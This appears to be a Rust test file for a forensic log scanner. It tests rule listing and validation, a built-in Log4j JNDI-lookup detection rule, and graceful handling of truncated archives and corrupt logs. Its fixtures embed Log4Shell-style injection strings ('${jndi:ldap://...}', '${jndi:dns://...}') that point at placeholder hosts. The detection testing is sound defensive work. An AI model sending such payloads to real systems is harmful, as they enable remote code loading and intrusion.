fn rules_list_and_check() {
    let out = run(&["rules", "list"]);
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(text.contains("log4j.jndi-lookup") && text.contains("T1190"), "{text}");
    let dir = tempfile::tempdir().unwrap();
    write_files(
        dir.path(),
        &[
            ("bad.rules", b"[rule]\nid = x\ntitle = t\ncategory = c\nseverity = severe\nliteral = a\nconfirm = regex:([\n"),
            ("dup.rules", b"[rule]\nid = log4j.jndi-lookup\ntitle = t\ncategory = c\nseverity = low\nliteral = a\n"),
            ("good.rules", b"[rule]\nid = mine\ntitle = t\ncategory = c\nseverity = low\nliteral = a\n"),
        ],
    );
    let bad = run(&["rules", "check", dir.path().join("bad.rules").to_str().unwrap()]);
    let err = String::from_utf8_lossy(&bad.stderr);
    assert_eq!(bad.status.code(), Some(64));
    assert!(
        err.contains("bad.rules:5: unknown severity") && err.contains("bad.rules:7: invalid regex"),
        "{err}"
    );
    let dup = run(&["rules", "check", dir.path().join("dup.rules").to_str().unwrap()]);
    assert_eq!(dup.status.code(), Some(64));
    assert!(String::from_utf8_lossy(&dup.stderr).contains("clashes with a built-in rule"));
    let good = run(&["rules", "check", dir.path().join("good.rules").to_str().unwrap()]);
    assert_eq!(good.status.code(), Some(0));
}

#[test]
fn bundle_without_logs_gives_empty_section() {
    let dir = tempfile::tempdir().unwrap();
    write_files(dir.path(), &[("notes.txt", b"nothing here\n")]);
    let bundle = discover(dir.path());
    let arts: Vec<_> = bundle.artifacts.iter().collect();
    let s = scan_bundle(&arts, &engine());
    assert!(s.log_hits.is_empty() && s.iocs.is_empty());
}

#[test]
fn hostile_input_gives_diagnostics_not_panics() {
    let dir = tempfile::tempdir().unwrap();
    let log = b"198.51.100.4 - - [27/Nov/2026:13:00:00 +0000] \"GET /?x=${jndi:ldap://cb.example/x} HTTP/1.1\" 200 1\n";
    let mut big = vec![b'x'; 300_000];
    big[..log.len()].copy_from_slice(log);
    let tar = tar_with(&[("var/log/app.log", &big)]);
    // Cut inside the log member: what was read before the cut is still scanned.
    let cut = &tar[..200_000];
    let garbage: Vec<u8> = (0..100_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect();
    write_files(dir.path(), &[("export.tar", cut), ("noise.log", &garbage), ("bad-json.log", b"{\"log\":\"x\" broken\n{\"log\":\"${jndi:dns://q.example}\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}\n")]);
    let (v, code) = run_json(&["scan", dir.path().to_str().unwrap()]);
    let b = &v["bundles"][0];
    let diags = b["diagnostics"].as_array().unwrap();
    assert!(
        diags.iter().any(|d| d["level"] == "error" && d["locator"]["artifact"] == "export.tar"),
        "{diags:#?}"
    );
    assert_eq!(code & 2, 2, "unreadable evidence sets exit bit 1");
    let hits = b["log_hits"].as_array().unwrap();
    assert!(hits.iter().any(|h| h["locator"]["members"][0] == "var/log/app.log"), "{hits:#?}");
    assert!(hits.iter().any(|h| h["jndi"]["host"] == "q.example"), "{hits:#?}");
}
